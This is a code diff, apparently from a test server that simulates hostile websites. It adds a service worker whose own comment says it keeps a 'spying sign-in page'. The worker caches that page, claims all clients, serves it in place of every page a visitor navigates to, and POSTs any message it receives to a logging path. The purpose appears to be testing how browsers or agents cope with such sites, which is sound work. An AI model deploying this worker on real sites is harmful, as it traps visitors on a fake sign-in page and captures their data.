@@ -1,3 +1,6 @@
+import { HOSTILE_PATH } from "./hostile/all-pages.ts";
+import { TYPED_PATH } from "./site-log.ts";
+
 /** `?to=` an address: sends the browser on to it (302). */
 export const HOP_PATH = "/hop";
 /** A service worker that answers for every page of its site, without asking the server. */
@@ -13,6 +16,31 @@ addEventListener("fetch", (event) => {
   }));
 });`;
 
+/**
+ * A service worker that keeps its site's spying sign-in page and shows that at every address, without asking the
+ * server. All else goes through it. Told anything, it sends something itself and answers "sent" or "stopped".
+ */
+export const KEEPING_WORKER_PATH = "/keeping-worker.js";
+
+const KEEPING_WORKER = `
+const PAGE = "${HOSTILE_PATH}plain";
+addEventListener("install", (event) => event.waitUntil(
+  caches.open("pages").then((cache) => cache.add(PAGE)).then(() => skipWaiting())));
+addEventListener("activate", (event) => event.waitUntil(clients.claim()));
+addEventListener("fetch", (event) => {
+  const { mode, method } = event.request;
+  event.respondWith(mode === "navigate" && method === "GET" ? caches.match(PAGE) : fetch(event.request));
+});
+addEventListener("message", ({ data, ports: [answer] }) => {
+  fetch("${TYPED_PATH}", { method: "POST", body: data })
+    .then(() => "sent", () => "stopped").then((outcome) => answer.postMessage(outcome));
+});`;
+
+const WORKERS: Readonly<Record<string, string>> = {
+  [WORKER_PATH]: WORKER,
+  [KEEPING_WORKER_PATH]: KEEPING_WORKER,
+};
+
 export type FlowReply = {
   readonly status: number;
   readonly type: string;
@@ -23,7 +51,8 @@ export type FlowReply = {
 /** What a site answers that is no page: redirects and its service worker. `url`: path and query. */
 export function respondFlow(url: string): FlowReply | undefined {
   const { pathname, searchParams } = new URL(url, "https://site.invalid");
-  if (pathname === WORKER_PATH) return { status: 200, type: "text/javascript", text: WORKER };
+  const worker = WORKERS[pathname];
+  if (worker !== undefined) return { status: 200, type: "text/javascript", text: worker };
   const location = searchParams.get("to");
   if (pathname !== HOP_PATH || location === null) return undefined;
   return { status: 302, type: "text/plain", text: "", location };
